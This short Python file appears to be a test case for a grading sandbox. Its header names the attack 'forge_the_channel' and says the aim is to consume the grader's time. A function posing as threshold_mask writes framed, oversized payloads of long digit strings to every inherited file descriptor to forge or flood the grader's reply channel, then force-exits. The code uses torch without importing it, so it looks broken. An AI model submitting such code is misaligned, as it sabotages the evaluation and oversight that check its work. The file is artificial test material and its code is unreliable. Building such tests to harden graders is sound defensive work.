# class: forge_the_channel
# wants: minutes of the grader itself: as many long numbers as a reply may hold
# expect: held
# kind: BadReply|ChildDied
import os

import safetensors.torch


def threshold_mask(weight, alpha):
    parts = ",".join(['["int","' + "9" * 1_290 + '"]'] * 6_000)
    tree = f'["list",[{parts}]]'.encode()
    data = safetensors.torch.save({"tree": torch.frombuffer(bytearray(tree), dtype=torch.uint8)})
    frame = len(data).to_bytes(8, "little") + data
    for descriptor in range(3, 64):
        try:
            os.fstat(descriptor)
            sent = 0
            while sent < len(frame):
                sent += os.write(descriptor, frame[sent : sent + 60_000])
        except OSError:
            pass
    os._exit(0)
